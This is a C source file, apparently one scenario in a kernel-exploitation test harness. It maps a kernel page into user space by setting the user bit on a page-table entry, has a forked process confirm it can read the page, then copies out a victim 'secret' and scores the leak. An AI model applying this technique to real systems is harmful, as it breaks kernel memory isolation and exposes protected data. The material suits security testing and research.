// SPDX-License-Identifier: GPL-2.0-only
/*
 * Entries of the kernel's tables may say that user space has a page, as the entries above
 * say no. They say yes. So a page at a kernel address is there for all processes.
 */
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

#include "addresses.h"
#include "attack.h"
#include "changer.h"
#include "list.h"
#include "objects.h"

#ifdef __x86_64__
#define HOLE		(10UL << 40)

/* Another process, that has done nothing, and looks when it is told to. */
static pid_t start_other(uint64_t at, int *tell)
{
	int fds[2];
	pid_t pid = pipe(fds) ? -1 : fork();
	char go;

	*tell = fds[1];
	if (!pid)
		_exit(read(fds[0], &go, 1) != 1 || !can_read((void *)at));
	return pid;
}

enum outcome kernel_user(void)
{
	uint64_t at = vmalloc_base() + HOLE, secret = at + victim_phys() % PAGE_SIZE;
	char text[SECRET_SIZE] = "";
	int tell, status;
	pid_t pid;

	stay_on_cpu(0);
	pid = start_other(secret, &tell);
	if (pid < 0)
		return broken("no process");
	if (!map_address(at, victim_phys() & -PAGE_SIZE, PTE_USER_RW))
		return lost("the address does not lead there");
	(void)!write(tell, "", 1);
	waitpid(pid, &status, 0);
	if (status || !can_read((void *)secret))
		return lost("another process does not read it");
	memcpy(text, (void *)secret, sizeof(text) - 1);
	return judge_secret(text, 0);
}
#else
enum outcome kernel_user(void)
{
	return skipped("x86-64 only");
}
#endif
